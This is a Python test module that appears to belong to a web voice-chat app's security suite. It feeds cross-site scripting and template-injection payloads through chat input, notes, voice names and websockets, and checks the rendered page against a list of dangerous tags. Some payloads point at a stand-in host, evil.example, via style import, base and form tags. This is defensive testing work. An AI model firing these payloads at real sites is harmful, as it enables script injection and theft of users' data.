"""Words that would like to be a program: scripts in typed text, in notes, in names of voices, on both ways in."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import websockets

from tests.attacks.outcome import Outcome
from tests.attacks.target import Targets
from tests.attacks.visitor import CONTROLS, NORMAL, NOT_UNDERSTOOD, Visitor

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    '![x](x" onerror=alert(1))',
    "<b onmouseover=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</span><script>alert(1)</script>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<style>@import'http://evil.example'</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "<IMG SRC=X ONERROR=ALERT(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
)
TAGS = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<a href",
    "<style>@",
    "<base",
    "<form",
    "<math",
    "<b on",
    "](javascript",
    '](x"',
)
"""What none of ours contains as it is; whatever holds one has to be written out in other characters."""
TOO_BIG = 1009
ODD: tuple[Any, ...] = (
    None,
    5,
    1e308,
    True,
    [],
    {},
    ["<img src=x onerror=alert(1)>"],
    {"text": "<script>"},
    "\x00",
    "\ud800",
    "x" * 5000,
)


def strings(value: Any) -> list[str]:
    """All texts inside of it."""
    if isinstance(value, str):
        return [value]
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [text for part in inner for text in strings(part)]


def is_tame(drawn: Any) -> bool:
    """No tag of a stranger stands in what the page is to show, whether as HTML or as Markdown."""
    return not any(tag in text.lower() for text in strings(drawn) for tag in TAGS)


def markup(told: dict[str, Any]) -> Any:
    """What a window draws as HTML; all else it is told are words, which its scripts put in as text."""
    return told.get("timing", {})


async def injections(house: Targets, outcome: Outcome) -> None:
    """Typed, remembered as a note, and as the name of a voice; judged by what the page is given to draw."""
    scripts = SCRIPTS[::2] if house.short else SCRIPTS

    async def one(kind: str, script: str) -> None:
        visitor = Visitor(house.app, kind=kind)
        await visitor.says(f"Repeat {script}", "Repeat")
        await visitor.type(f"Remember that {script}", {**CONTROLS, "voice": script})
        await asyncio.sleep(0.3)
        drawn = markup(await visitor.drawn())
        outcome.expect(
            is_tame(drawn), f"{script!r} is drawn in {kind} as {[t for t in strings(drawn) if not is_tame(t)][:2]}"
        )
        voiced, code = await visitor.tell({"do": "set_voice", "voice": script})
        outcome.expect(code == NORMAL and is_tame([markup(each) for each in voiced]), f"the voice {script!r}")
        await visitor.hang_up()

    kinds = ("sandwich",) if house.short else ("sandwich", "realtime")
    for first in range(0, len(scripts), 4):  # a few at once: places are few
        await asyncio.gather(*(one(kind, script) for kind in kinds for script in scripts[first : first + 4]))
    await _odd_values(house, outcome)
    await _sockets(house, outcome, scripts)


async def _odd_values(house: Targets, outcome: Outcome) -> None:
    """Values no page of ours would send, in every place of a typed turn."""
    visitor = Visitor(house.app)
    for odd in ODD:
        for text, wanted in (
            (odd, CONTROLS),
            ("Hello", dict.fromkeys(CONTROLS, odd)),
            ("Hello", {**CONTROLS, "patience": odd, "detection": odd}),
        ):
            code = await visitor.type(text, wanted)
            outcome.expect(code in (NORMAL, NOT_UNDERSTOOD, TOO_BIG), f"{code} for {text!r:.40} with {odd!r:.40}")
    outcome.expect(is_tame(markup(await visitor.drawn())), "an odd value was drawn as it was")
    await visitor.hang_up()


async def _sockets(house: Targets, outcome: Outcome, scripts: tuple[str, ...]) -> None:
    """The API answers in JSON, so what comes back is data; what must not come is an end without a word."""
    for script in scripts[:8]:
        async with websockets.connect(f"ws://{house.app.wire.authority}/ws/sandwich") as socket:
            for message in (script, json.dumps({"type": script}), json.dumps({"type": "text", "text": script})):
                await socket.send(message)
            async with asyncio.timeout(20):
                first = json.loads(await socket.recv())
            outcome.expect("type" in first, f"{first} for {script!r}")
